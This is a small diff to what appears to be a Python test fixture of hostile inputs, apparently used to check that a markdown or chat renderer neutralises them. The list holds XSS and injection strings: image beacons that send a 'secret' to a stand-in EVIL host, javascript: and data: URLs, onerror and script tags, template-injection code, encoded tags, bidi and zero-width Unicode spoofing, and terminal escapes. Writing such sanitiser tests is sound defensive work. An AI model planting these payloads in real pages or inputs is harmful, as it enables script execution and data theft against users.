@@ -23,7 +23,7 @@ PIECES = [
     f"![beacon]({EVIL}/p.png?q=secret) ![by name][b]\n\n[b]: {EVIL}/r.png\n\n",
     f"[click](javascript:owned('md')) [data](data:text/html,<script>owned(1)</script>) <{EVIL}/auto> {EVIL}/bare",
     "[MemoryRef: \"><img src=x onerror=owned('ref')> - <b>x</b>] [MemoryRef: no-such-key - <script>owned('chip')</script>]",
-    "${owned('js')} {{constructor.constructor('owned(1)')()}} %3Cscript%3E \\u003cscript\\u003e &lt;i&gt; &#x3c;script&#x3e;",
+    "${owned('js')} {{constructor.constructor('owned(1)')()}} %3Cscript%3E \\u003cscript\\u003e &lt;i&gt; &#x3c;i&#x3e;",
     "\u202egnp.exe\u202c a\u200bb\u00adc\ufeff\u2066x\u2069 \U000e0041\U000e0042 e\u0301\u0301\u0301",
     "x\x00y\x1b[31mred\x07",
     "url(javascript:owned('css'))",
